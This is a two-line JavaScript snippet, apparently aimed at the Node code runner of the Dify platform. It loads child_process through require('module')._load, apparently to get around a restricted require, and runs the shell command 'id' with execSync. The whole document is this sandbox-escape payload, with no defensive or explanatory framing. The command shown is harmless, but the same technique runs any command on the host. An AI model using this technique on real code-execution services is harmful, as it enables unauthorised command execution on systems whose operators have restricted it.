// dify's Node runner
require('module')._load('child_process').execSync('id');
